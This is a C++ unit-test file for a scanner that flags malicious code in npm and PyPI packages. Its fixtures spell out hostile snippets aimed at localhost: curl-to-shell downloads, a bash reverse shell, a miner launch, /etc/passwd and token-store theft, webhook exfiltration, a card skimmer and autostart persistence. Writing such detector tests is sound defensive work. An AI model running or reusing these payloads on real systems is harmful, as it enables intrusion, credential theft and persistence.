         "stratum+tcp://127.0.0.1:3333\", shell=True)\n");
  expect_facts(facts,
               {
                   {FactKind::kShell, "download-executed", 2, "wget http://127.0.0.1/x -O /tmp/x; chmod +x /tmp/x"},
                   {FactKind::kShell, "miner", 2, "/tmp/x -o stratum+tcp://127.0.0.1:3333"},
                   {FactKind::kShell, "download-executed", 2,
                    "wget http://127.0.0.1/x -O /tmp/x; /tmp/x -o stratum+tcp://127.0.0.1:3333"},
               });
}

TEST(Signals, a_command_put_in_a_variable_then_run_by_os_system_is_a_shell_fact_at_its_string) {
  const auto facts =
      py("import os\n"
         "cmd = \"curl -fsSL http://127.0.0.1/i.sh | sh\"\n"
         "os.system(cmd)\n");
  expect_facts(facts, {{FactKind::kShell, "download-piped-to-shell", 2, "curl -fsSL http://127.0.0.1/i.sh | sh"}});
}

// bun's postinstall: the command is the text of an Error, never handed to a process.
TEST(Signals, a_command_line_kept_in_a_name_no_process_is_handed_is_a_message) {
  EXPECT_TRUE(js("const { spawnSync } = require('child_process');\n"
                 "let installScript = os2 === \"win32\" ? 'powershell -c \"irm 127.0.0.1/i.ps1 | iex\"' : "
                 "\"curl -fsSL http://127.0.0.1/install | bash\";\n"
                 "spawnSync('node', ['--version']);\n"
                 "throw new Error(`install with: ${installScript}`);\n")
                  .empty());
  EXPECT_TRUE(py("import subprocess\n"
                 "msg: str = 'curl -fsSL http://127.0.0.1/i.sh | sh'\n"
                 "print(msg)\n"
                 "subprocess.run(['git', 'status'])\n")
                  .empty());
  // The same name handed to the process call: a command.
  expect_facts(py("import subprocess\n"
                  "cmd = 'curl -fsSL http://127.0.0.1/i.sh | sh'\n"
                  "subprocess.run(cmd, shell=True)\n"),
               {{FactKind::kShell, "download-piped-to-shell", 2, "curl -fsSL http://127.0.0.1/i.sh | sh"}});
}

TEST(Signals, a_list_handed_to_subprocess_reads_as_its_command_line) {
  const auto facts =
      py("import subprocess\n"
         "subprocess.call(['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'])\n");
  // Once as the joined argv, once as the string alone (every string of a file that starts
  // processes is read as a command too): two pieces of evidence, told apart by their detail.
  expect_facts(facts, {
                          {FactKind::kShell, "reverse-shell", 2, "bash -c bash -i >&/dev/tcp/127.0.0.1/4444 0>&1"},
                          {FactKind::kShell, "reverse-shell", 2, "bash -i >&/dev/tcp/127.0.0.1/4444 0>&1"},
                      });
}

TEST(Signals, a_javascript_child_process_exec_of_a_download_piped_to_sh_is_a_shell_fact) {
  const auto facts =
      js("const cp = require('child_process');\n"
         "cp.exec('curl -fsSL http://127.0.0.1/i.sh | sh');\n");
  expect_facts(facts, {{FactKind::kShell, "download-piped-to-shell", 2, "curl -fsSL http://127.0.0.1/i.sh | sh"}});
}

// An esbuild chunk (vercel's CLI has 149): its own facts, and that it is a bundler's output,
// which the worker weighs as a vendored copy unless it runs at install or import.
TEST(Signals, a_bundlers_output_with_a_fact_is_said_to_be_generated_at_its_helper) {
  const auto facts =
      js("import{__commonJS,__require}from\"./chunk-B.js\";\n"
         "var require_x=__commonJS({\"../../node_modules/x/index.js\"(exports){\n"
         "const cp = require('child_process');\n"
         "cp.exec('curl -fsSL http://127.0.0.1/i.sh | sh');\n"
         "}});\n");
  expect_facts(facts, {{FactKind::kShell, "download-piped-to-shell", 4, "curl -fsSL http://127.0.0.1/i.sh | sh"},
                       {FactKind::kGenerated, "bundle", 2, "__commonJS("}});
}

TEST(Signals, a_minified_file_with_a_fact_is_generated_at_its_long_line) {
  const std::string filler(20001, 'a');
  const auto facts =
      js("const cp = require('child_process');\n"
         "cp.exec('curl -fsSL http://127.0.0.1/i.sh | sh');\nvar " +
         filler + "=1;\n");
  ASSERT_EQ(facts.size(), 2U);
  EXPECT_EQ(fact_name(facts[1].kind), "generated");
  EXPECT_EQ(facts[1].what, "minified");
  EXPECT_EQ(facts[1].line, 3U);
  EXPECT_EQ(facts[1].detail, "a line of 20008 bytes");
}

TEST(Signals, a_bundle_without_facts_or_a_helper_named_in_a_string_or_in_python_is_not_said) {
  EXPECT_TRUE(js("var require_x=__commonJS({\"x.js\"(exports){ exports.a = 1; }});\n").empty());
  const auto named =
      js("const cp = require('child_process');\n"
         "cp.exec('curl -fsSL http://127.0.0.1/i.sh | sh');\n"
         "const s = '__commonJS(';\n");
  expect_facts(named, {{FactKind::kShell, "download-piped-to-shell", 2, "curl -fsSL http://127.0.0.1/i.sh | sh"}});
  const auto python =
      py("import os\n"
         "os.system('curl -fsSL http://127.0.0.1/i.sh | sh')\n"
         "__commonJS(1)\n");
  expect_facts(python, {{FactKind::kShell, "download-piped-to-shell", 2, "curl -fsSL http://127.0.0.1/i.sh | sh"}});
}

// an0n-chat-lib's stealer: a Startup-folder script written (path.join of the home and the
// folder, Windows' separators or not) and a Discord store without its leading slash.
TEST(Signals, an_autostart_place_and_a_relative_discord_store_are_seen) {
  expect_facts(
      js("const f = path.join(os.homedir(), 'AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.cmd');\n"
         "const d = path.join(os.homedir(), 'AppData', dir, 'Local Storage/leveldb');\n"
         "const k = 'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run';\n"),
      {{FactKind::kCollect, "token-store", 2, "local storage/leveldb"},
       {FactKind::kPersist, "autostart", 1, "start menu/programs/startup"},
       {FactKind::kPersist, "autostart", 3, "microsoft/windows/currentversion/run"}});
}

// A home directory is where an installer keeps its cache (@sentry/cli's postinstall asks it
// and then downloads its binary): not who the host is.
TEST(Signals, javascript_os_homedir_is_not_host_identity) {
  expect_facts(js("const os = require('os');\n"
                  "const dir = os.homedir() + '/.cache/x';\n"
                  "fetch('https://127.0.0.1/bin').then(r => r.arrayBuffer());\n"),
               {{FactKind::kSend, "http", 3, "fetch("}});
}

TEST(Signals, a_command_line_written_in_a_string_that_nothing_runs_is_not_a_shell_fact) {
  // os.system here is inside a string: printed, not called.
  EXPECT_TRUE(py("print(\"os.system('curl -fsSL http://127.0.0.1/i.sh | sh')\")\n").empty());
}

TEST(Signals, a_file_gives_at_most_64_facts) {
  std::string src = "import os\n";
  for (int i = 0; i < 100; ++i) src += "os.system(\"curl -fsSL http://127.0.0.1/" + std::to_string(i) + ".sh | sh\")\n";
  EXPECT_EQ(py(src).size(), 64u);
}

TEST(Signals, a_file_of_many_strings_that_starts_a_process_is_analysed_in_linear_time) {
  // Up to 200 000 empty strings (800 kB, under the tree's 2 MiB file bound) and one process
  // call: each string is read as a command line, at its own line, without counting from the top.
  auto make = [](int n) {
    std::string src = "import subprocess\nsubprocess.run(x)\nx = [";
    for (int i = 0; i < n; ++i) src += "'',\n";
    return src + "]\n";
  };
  EXPECT_LT(growth_at_8x(
                make, [](const std::string& src) { EXPECT_TRUE(py(src).empty()); }, 25000),
            kLinearGrowthBound);
}

// The flows (flows.h) read each call's arguments and each shell's line a bounded number of
// times: up to 200 000 unclosed fetches beside an exec, 200 000 shell names on one line of a
// file that connects and dup2s, and 200 000 strings on one line of a file that starts a
// process (each asked which name it is given to), each a file of about 1 MB.
TEST(Signals, a_file_of_many_fetches_or_shell_names_is_analysed_in_bounded_time) {
  auto fetches = [](int n) {
    std::string src = "import urllib.request\nexec(x)\n";
    for (int i = 0; i < n; ++i) src += "urlopen(";
    return src + "\n";
  };
  auto strings = [](int n) {
    std::string src = "import subprocess\nsubprocess.run(x)\nx = [";
    for (int i = 0; i < n; ++i) src += "'',";
    return src + "]\n";
  };
  auto shells = [](int n) {
    std::string src = "import os, socket\ns.connect(('127.0.0.1', 9))\nos.dup2(0, 1)\nx = [";
    for (int i = 0; i < n; ++i) src += "'sh',";
    return src + "]\n";
  };
  EXPECT_LT(growth_at_8x(
                fetches,
                [](const std::string& src) {
                  for (const auto& f : py(src)) EXPECT_NE(f.kind, FactKind::kFetchedExecuted);
                },
                25000),
            kLinearGrowthBound);
  EXPECT_LT(growth_at_8x(
                shells,
                [](const std::string& src) {
                  for (const auto& f : py(src)) EXPECT_NE(f.what, "reverse-shell");
                },
                25000),
            kLinearGrowthBound);
  EXPECT_LT(growth_at_8x(
                strings, [](const std::string& src) { EXPECT_TRUE(py(src).empty()); }, 25000),
            kLinearGrowthBound);
}

// The key's flow and the dropper's: up to 200 000 assignments whose bracket never closes
// beside a key's name (each would read 64 KiB past its line), and 200 000 writes beside a
// fetch and a process call (each asked for the open( above it).
TEST(Signals, a_file_of_many_open_assignments_or_writes_is_analysed_in_bounded_time) {
  auto open_values = [](int n) {
    std::string src = "import requests\nprivate_key = k\n";
    for (int i = 0; i < n; ++i) src += "x = (\n";
    return src;
  };
  auto writes = [](int n) {
    std::string src = "import requests, subprocess\nr = requests.get('http://127.0.0.1/x')\nsubprocess.run(['x'])\n";
    for (int i = 0; i < n; ++i) src += "f.write(r)\n";
    return src;
  };
  EXPECT_LT(growth_at_8x(
                open_values,
                [](const std::string& src) {
                  for (const auto& f : py(src)) EXPECT_NE(f.kind, FactKind::kKeySent);
                },
                25000),
            kLinearGrowthBound);
  EXPECT_LT(growth_at_8x(
                writes, [](const std::string& src) { (void)py(src); }, 25000),
            kLinearGrowthBound);
}

// The Fernet pass: every token is tried with every key only within the file's decoding
// budget (8 MiB), and at most 16 tokens and 8 keys are taken, so a file of up to 20,000 keys
// and tokens that fit no key costs a read of its text, not a decryption each.
TEST(Signals, a_file_of_many_fernet_keys_and_tokens_is_analysed_in_linear_time) {
  auto make = [](int n) {
    std::string src = "from cryptography.fernet import Fernet\n";
    for (int i = 0; i < n; ++i) {
      src += "k = '" + std::string(43, static_cast<char>('A' + i % 26)) + "='\n";
      // 89 bytes: a header, two blocks and an HMAC, so each key is tried to the HMAC.
      src += "exec(Fernet(k).decrypt('gAAAAA" + std::string(113, static_cast<char>('a' + i % 26)) + "='))\n";
    }
    return src;
  };
  EXPECT_LT(growth_at_8x(
                make, [](const std::string& src) { EXPECT_TRUE(py(src).empty()) << ::testing::PrintToString(py(src)); },
                2500),
            kLinearGrowthBound);
}

TEST(Signals, a_file_of_many_decoded_payloads_is_analysed_in_linear_time) {
  auto make = [](int n) {
    std::string src = "import base64\n";
    for (int i = 0; i < n; ++i) src += "exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=\"))\n";
    return src;
  };
  // The same fact each time, said once.
  EXPECT_LT(growth_at_8x(
                make, [](const std::string& src) { EXPECT_EQ(py(src).size(), 1u); }, 2500),
            kLinearGrowthBound);
}

TEST(Signals, a_shell_fact_after_an_unterminated_string_is_at_its_own_line) {
  const auto facts =
      py("import os\n"
         "s = 'unterminated\n"
         "cmd = \"curl -fsSL http://127.0.0.1/i.sh | sh\"\n"
         "os.system(cmd)\n");
  expect_facts(facts, {{FactKind::kShell, "download-piped-to-shell", 3, "curl -fsSL http://127.0.0.1/i.sh | sh"}});
}

// --- collected and sent -------------------------------------------------------------------

TEST(Signals, python_hostname_posted_with_requests_is_collect_host_and_send_http) {
  const auto facts = py("import socket, requests\nrequests.post(\"http://127.0.0.1/c\", data=socket.gethostname())\n");
  expect_facts(facts, {
                          {FactKind::kCollect, "host", 2, "gethostname("},
                          {FactKind::kSend, "http", 2, "requests.post("},
                      });
}

TEST(Signals, javascript_os_hostname_sent_by_https_request_is_collect_host_and_send_http) {
  const auto facts =
      js("const os = require('os');\n"
         "const https = require('https');\n"
         "const req = https.request({ hostname: 'localhost', path: '/c', method: 'POST' });\n"
         "req.write(os.hostname());\n"
         "req.end();\n");
  expect_facts(facts, {
                          {FactKind::kCollect, "host", 4, "os.hostname("},  // one call, one fact
                          {FactKind::kSend, "http", 3, "https.request("},
                      });
}

TEST(Signals, a_discord_leveldb_path_and_a_webhook_url_are_a_token_store_and_a_webhook) {
  const auto facts =
      py("import os, requests\n"
         "p = os.getenv(\"APPDATA\") + \"\\\\discord\\\\Local Storage\\\\leveldb\"\n"
         "requests.post(\"http://localhost/discord.com/api/webhooks/1/x\", data=open(p).read())\n");
  expect_facts(facts, {
                          {FactKind::kCollect, "token-store", 2, "discord"},
                          {FactKind::kCollect, "token-store", 2, "local storage/leveldb"},
                          {FactKind::kSend, "http", 3, "requests.post("},
                          {FactKind::kSend, "webhook", 3, "discord.com/api/webhooks"},
                      });
}

// rcebymrx (held-out-9): /etc/passwd read at import and sent to interactsh's public server.
TEST(Signals, an_interactsh_host_is_a_capture_service) {
  expect_facts(py("import requests, base64\n"
                  "data = base64.b64encode(open('/etc/passwd').read().encode()).decode()\n"
                  "requests.get(f'http://localhost/q1.oast.fun/code?rce={data}')\n"),
               {{FactKind::kCollect, "credential-file", 2, "/etc/passwd"},
                {FactKind::kSend, "http", 3, "requests.get("},
                {FactKind::kSend, "capture", 3, ".oast.fun"}});
  // A word that only ends like one is not a host of it.
  EXPECT_TRUE(py("NAME = 'toast.fun'\n").empty());
}

// crpytography, tkniter (held-out-10) and mariabd (tuning): setup.py sets --load-extension on
// the browsers' shortcuts. A test runner that starts a browser with the flag edits no shortcut.
TEST(Signals, a_browser_shortcut_given_load_extension_is_a_persist_fact) {
  expect_facts(py("from win32com.client import Dispatch\n"
                  "shell = Dispatch('WScript.Shell')\n"
                  "s = shell.CreateShortcut(path)\n"
                  "if os.path.basename(s.TargetPath) in ['chrome.exe', 'msedge.exe']:\n"
                  "    s.Arguments = '--load-extension={p}\\\\Extension'.format(p=appdata)\n"
                  "    s.Save()\n"),
               {{FactKind::kPersist, "browser-extension", 5, "--load-extension={p}\\Extension"}});
  EXPECT_TRUE(py("from selenium import webdriver\n"
                 "opts.add_argument('--load-extension=' + ext)\n"
                 "webdriver.Chrome(options=opts)\n")
                  .empty());
}

TEST(Signals, discord_alone_is_every_bot_library_and_not_a_token_store) {
  EXPECT_TRUE(py("import discord\nclient = discord.Client()\nNAME = \"discord bot\"\n").empty());
}

TEST(Signals, a_javascript_spawn_of_a_program_let_go_under_nohup_is_a_shell_fact) {
  // commander-js 2.19.84's setup.js, which its postinstall runs (npm malware, tuning half).
  const auto facts =
      js("(function(){ require('child_process').spawn('BUILD_ID=.temp-build nohup node update.js >/dev/null 2>&1 &', "
         "{ stdio: 'inherit', shell: true }); })();\n");
  expect_facts(facts, {{FactKind::kShell, "program-started-detached", 1,
                        "BUILD_ID=.temp-build nohup node update.js >/dev/null 2>&1"}});
}

TEST(Signals, the_string_hostname_is_a_command_only_in_a_file_that_starts_processes) {
  // core-js-bundle 3.51.0's URL polyfill names the property; nothing in it starts a process.
  expect_facts(js("var keys = ['protocol', 'hostname', 'port'];\nfetch(url);\n"),
               {{FactKind::kSend, "http", 2, "fetch("}});
  const auto facts =
      js("const cp = require('child_process');\n"
         "const who = cp.execSync('hostname').toString();\n"
         "fetch('http://127.0.0.1/c?h=' + who);\n");
  expect_facts(facts, {{FactKind::kCollect, "host", 2, "hostname"}, {FactKind::kSend, "http", 3, "fetch("}});
}

TEST(Signals, a_skimmer_that_walks_the_pages_forms_for_card_fields_on_submit_collects_form_secrets) {
  // device-mqtt 1.0.11's shape (npm malware, tuning half).
  const auto facts =
      js("var x = document.forms.length;\n"
         "for (var i = 0; i < x; i++) { var e = document.forms[i].elements;\n"
         "  for (var k = 0; k < e.length; k++) if (e[k].type == 'password' || e[k].name == 'cardnumber')\n"
         "    document.forms[i].addEventListener('submit', function () {\n"
         "      fetch('http://127.0.0.1/c', {method: 'POST', body: 'x'}); }); }\n");
  expect_facts(facts,
               {{FactKind::kCollect, "form-secrets", 1, "document.forms"}, {FactKind::kSend, "http", 5, "fetch("}});
  // A sign-in widget reads its own form's password field: not every form of the page.
  expect_facts(js("form.addEventListener('submit', () => fetch('/login', {body: form.elements['password'].value}));\n"),
               {{FactKind::kSend, "http", 1, "fetch("}});
}

TEST(Signals, a_wallets_folder_is_a_path_component_not_a_packages_scope) {
  // jsdom 31.0.1 requires "@exodus/bytes" beside its XMLHttpRequest (tuning half).
  expect_facts(js("const { utf8 } = require('@exodus/bytes/encoding.js');\nconst x = new XMLHttpRequest();\n"),
               {{FactKind::kSend, "http", 2, "XMLHttpRequest"}});
  expect_facts(py("import os\np = os.path.join(os.getenv('APPDATA'), 'Exodus\\\\exodus.wallet')\n"),
               {{FactKind::kCollect, "token-store", 2, "exodus"}});
}

TEST(Signals, chromiums_login_data_is_a_path_component_not_the_english_words) {
  // A stealer names the file in a path; a sign-in library's docstring says the words
  // (minecraft-launcher-lib 8.0, held-out-6).
  const auto stealer =
      py("import os\n"
         "p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data')\n"
         "q = 'Login Data'\n");
  expect_facts(stealer, {{FactKind::kCollect, "token-store", 2, "login data"}});
  EXPECT_TRUE(py("def get_secure_login_data(client_id):\n"
                 "    \"\"\"Generates the login data for a secure login with pkce and state.\"\"\"\n"
                 "    return client_id\n")
                  .empty());
}

TEST(Signals, telegrams_tdata_is_a_token_store_as_a_path_component_and_not_inside_a_word) {
  // httpsyncer (tuning half) joins it as a component of its own; the bot API is the channel.
  expect_facts(
      py("import os\n"
         "p = os.path.join(os.getenv('APPDATA'), 'Telegram Desktop', 'tdata')\n"
         "u = f'https://api.telegram.org/bot{t}/sendDocument'\n"),
      {{FactKind::kCollect, "token-store", 2, "tdata"}, {FactKind::kSend, "telegram", 3, "api.telegram.org/bot"}});
  EXPECT_TRUE(py("cols = ['tdatabase', 'metadata/tdatax']\n").empty());
}

TEST(Signals, the_whole_environment_dumped_and_a_credential_file_are_collected) {
  const auto facts =
      py("import os, json\n"
         "blob = json.dumps(dict(os.environ))\n"
         "key = open(os.path.expanduser('~/.aws/credentials')).read()\n");
  expect_facts(facts, {
                          {FactKind::kCollect, "environment", 2, "dict(os.environ)"},
                          {FactKind::kCollect, "credential-file", 3, ".aws/credentials"},
                      });
}

// --- benign -----------------------------------------------------------------------------

TEST(Signals, a_base64_image_decoded_and_never_run_gives_nothing) {
  // A 1×1 PNG: binary, not text, and nothing runs it.
  EXPECT_TRUE(
      py("import base64\n"
         "PNG = "
         "base64.b64decode("
         "\"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\")\n")
          .empty());
}

TEST(Signals, a_plain_subprocess_run_of_git_status_gives_nothing) {
  EXPECT_TRUE(py("import subprocess\nsubprocess.run([\"git\", \"status\"], check=True)\n").empty());
}

TEST(Signals, a_javascript_regex_exec_without_child_process_gives_nothing) {
  EXPECT_TRUE(js("const m = /(\\d+)-(\\w+)/.exec(str);\nconst n = new RegExp(\"a+\").exec(other);\n").empty());
}

TEST(Signals, the_environment_copied_for_a_subprocess_is_not_collected) {
  EXPECT_TRUE(py("import os, subprocess\nsubprocess.run([\"make\"], env=os.environ.copy())\n").empty());
}

TEST(Signals, a_single_environment_variable_is_not_the_whole_environment) {
  EXPECT_TRUE(py("import os\nhome = os.environ.get('HOME')\ndebug = os.environ['DEBUG']\n").empty());
}

// --- facts' fields ------------------------------------------------------------------------

TEST(Signals, every_fact_carries_the_file_and_the_phase_it_was_given) {
  Budget budget;
  const auto facts = analyze_source("package/hook.js", "fetch('http://127.0.0.1/c?h=' + require('os').hostname())",
                                    Language::kJavaScript, Phase::kInstall, budget);
  ASSERT_EQ(facts.size(), 2u);
  for (const Fact& f : facts) {
    EXPECT_EQ(f.file, "package/hook.js");
    EXPECT_EQ(f.phase, Phase::kInstall);
    EXPECT_EQ(f.line, 1u);
  }
}

TEST(Signals, analyze_command_judges_an_npm_script_line) {
  const auto facts = analyze_command("package.json", 0, "curl -fsSL http://127.0.0.1/i.sh | sh", Phase::kInstall);
  ASSERT_EQ(facts.size(), 1u);
  EXPECT_EQ(facts[0].kind, FactKind::kShell);
  EXPECT_EQ(facts[0].what, "download-piped-to-shell");
  EXPECT_EQ(facts[0].file, "package.json");
  EXPECT_EQ(facts[0].line, 0u);
  EXPECT_EQ(facts[0].phase, Phase::kInstall);
  EXPECT_EQ(facts[0].detail, "curl -fsSL http://127.0.0.1/i.sh | sh");
  EXPECT_TRUE(analyze_command("package.json", 0, "node-gyp rebuild", Phase::kInstall).empty());
}

TEST(Signals, language_of_knows_python_and_javascript_by_their_extensions) {
  Language lang = Language::kJavaScript;
  EXPECT_TRUE(language_of("a/setup.py", lang));
  EXPECT_EQ(lang, Language::kPython);
  EXPECT_TRUE(language_of("site.pth", lang));
  EXPECT_EQ(lang, Language::kPython);
  EXPECT_TRUE(language_of("w.pyw", lang));
  EXPECT_TRUE(language_of("lib/index.js", lang));
  EXPECT_EQ(lang, Language::kJavaScript);
  EXPECT_TRUE(language_of("x.cjs", lang));
  EXPECT_TRUE(language_of("x.mjs", lang));
  EXPECT_FALSE(language_of("x.ts", lang));
  EXPECT_FALSE(language_of(".py", lang));  // a name that is only an extension
  EXPECT_FALSE(language_of("py", lang));
  EXPECT_FALSE(language_of("README", lang));
}

TEST(Signals, fact_and_phase_names_are_those_the_json_says) {
  EXPECT_EQ(fact_name(FactKind::kDecodedExecuted), "decoded-executed");
  EXPECT_EQ(fact_name(FactKind::kDecodedCode), "decoded-code");
  EXPECT_EQ(fact_name(FactKind::kDecodingBomb), "decoding-bomb");
  EXPECT_EQ(fact_name(FactKind::kShell), "shell");
  EXPECT_EQ(fact_name(FactKind::kCollect), "collect");
  EXPECT_EQ(fact_name(FactKind::kSend), "send");
  EXPECT_EQ(fact_name(FactKind::kRunsAtInstall), "runs-at-install");
  EXPECT_EQ(fact_name(FactKind::kRunsAtRequire), "runs-at-require");
  EXPECT_EQ(fact_name(FactKind::kGenerated), "generated");
  EXPECT_EQ(fact_name(FactKind::kDisguisedName), "disguised-name");
  EXPECT_EQ(fact_name(FactKind::kFetchedExecuted), "fetched-executed");
  EXPECT_EQ(fact_name(FactKind::kPersist), "persist");
  EXPECT_EQ(phase_name(Phase::kUnknown), "");
  EXPECT_EQ(phase_name(Phase::kInstall), "install");
  EXPECT_EQ(phase_name(Phase::kRequire), "require");
}

// --- excerpt ----------------------------------------------------------------------------

TEST(Signals, excerpt_keeps_short_printable_text_as_it_is) {
  EXPECT_EQ(excerpt("curl -fsSL http://127.0.0.1/i.sh | sh"), "curl -fsSL http://127.0.0.1/i.sh | sh");
  EXPECT_EQ(excerpt(""), "");
  EXPECT_EQ(excerpt(std::string(200, 'a')), std::string(200, 'a'));  // exactly at the bound: whole
}

TEST(Signals, excerpt_turns_control_bytes_into_spaces) {
  EXPECT_EQ(excerpt(std::string("a\nb\tc\rd\0e\x1b[31m\x7f", 15)), "a b c d e [31m ");
}

TEST(Signals, excerpt_cuts_at_max_bytes_and_says_so) {
  EXPECT_EQ(excerpt(std::string(201, 'a')), std::string(200, 'a') + "…");
  EXPECT_EQ(excerpt("abcdef", 3), "abc…");
}

TEST(Signals, excerpt_cuts_on_a_utf8_boundary) {
  // "é" is two bytes: the third would straddle the bound of 3, so the cut is before it.
  EXPECT_EQ(excerpt("a\xC3\xA9\xC3\xA9", 4), "a\xC3\xA9…");
  EXPECT_EQ(excerpt("\xF0\x9F\x98\x80\xF0\x9F\x98\x80", 6), "\xF0\x9F\x98\x80…");
}

TEST(Signals, excerpt_replaces_invalid_utf8_with_a_question_mark) {
  EXPECT_EQ(excerpt("a\xFF"
                    "b\x80"
                    "c\xC3"),
            "a?b?c?");
  EXPECT_EQ(excerpt("\xC3(x"), "?(x");
}

TEST(Signals, excerpt_never_exceeds_its_bound_plus_the_ellipsis) {
  for (std::size_t max : {0U, 1U, 2U, 3U, 7U, 200U}) {
    std::string mixed;
    for (int i = 0; i < 100; ++i) mixed += "a\xC3\xA9\xF0\x9F\x98\x80\xFF\n";
    const std::string e = excerpt(mixed, max);
    EXPECT_LE(e.size(), max + std::string("…").size()) << max;
  }
}

}  // namespace
}  // namespace batlehub::signals

namespace batlehub::signals {
namespace {

// Issue 45's held-out-3, read: a letter shift of ordinary English finds "def " by chance
// ("first" shifted by 12 is "rudef"), and gspread, reportlab, pypdf, exceljs and vue's
// compiler were denied for their docstrings and messages. A shift is kept only when it
// spells two markers of a payload.
TEST(Signals, english_in_a_file_that_shifts_letters_and_evaluates_is_not_a_shifted_payload) {
  const auto facts =
      py("def first(it, func):\n"
         "    \"\"\"Finds and returns first item in iterable for which func(item) is True.\"\"\"\n"
         "    return next(x for x in it if func(x))\n"
         "ERR = 'The first argument must be one of type string, Buffer, ArrayBuffer, Array'\n"
         "code = ''.join(chr(ord(c) ^ 1) for c in 'x')\n"
         "exec(code)\n");
  for (const Fact& f : facts) EXPECT_NE(f.kind, FactKind::kDecodedExecuted) << f.detail;
  // The same file with a payload shifted by 3 is still read.
  const std::string payload = shift_letters("import socket, subprocess; subprocess.call('id')", 23);
  const auto shifted = py("s = '" + payload + "'\nexec(''.join(chr(ord(c)) for c in s))\n");
  ASSERT_FALSE(shifted.empty());
  EXPECT_TRUE(std::any_of(shifted.begin(), shifted.end(), [](const Fact& f) {
    return f.kind == FactKind::kDecodedExecuted && f.what == "letter shift";
  }));
}

}  // namespace
}  // namespace batlehub::signals

namespace batlehub::signals {
namespace {

// The npm tuning half, read (issue 45): electorn's preinstall sends the host name inside a
// template literal (`${os.hostname()}.…` to dns.lookup), and sonatype's postinstall starts
// the Windows program it ships, detached, through a destructured spawn.
TEST(Signals, a_template_literals_expression_is_code_and_its_host_name_is_collected) {
  const Lexed l = lex("const t = `${pkg.name}.${os.hostname()}.example`;\n", Language::kJavaScript);
  ASSERT_EQ(l.literals.size(), 1u);
  EXPECT_EQ(l.literals[0].value, "${}.${}.example");
  EXPECT_NE(l.code.find("os.hostname()"), std::string::npos) << l.code;
  const auto facts =
      js("const os = require('os'); const dns = require('dns');\n"
         "dns.lookup(`${os.hostname()}.x.localhost`, () => {});\n");
  expect_facts(facts, {
                          {FactKind::kCollect, "host", 2, "os.hostname("},
                          {FactKind::kSend, "dns", 2, "dns.lookup("},
                      });
}

TEST(Signals, a_shipped_windows_program_started_detached_by_a_destructured_spawn_is_seen) {
  const auto facts =
      js("const { join } = require('path');\nconst { spawn } = require('child_process');\n"
         "spawn(join(__dirname, 'Installer-2.0.exe'), { detached: true, stdio: 'ignore' }).unref();\n");
  ASSERT_EQ(facts.size(), 1u);
  EXPECT_EQ(facts[0].kind, FactKind::kShell);
  EXPECT_EQ(facts[0].what, "program-started-detached");
  EXPECT_EQ(facts[0].line, 3u);
  // Waited for, it is a tool the package runs (esbuild checks its binary's version).
  EXPECT_TRUE(js("const { execFileSync } = require('child_process');\n"
                 "execFileSync(require('path').join(__dirname, 'esbuild.exe'), ['--version']);\n")
                  .empty());
}

}  // namespace
}  // namespace batlehub::signals
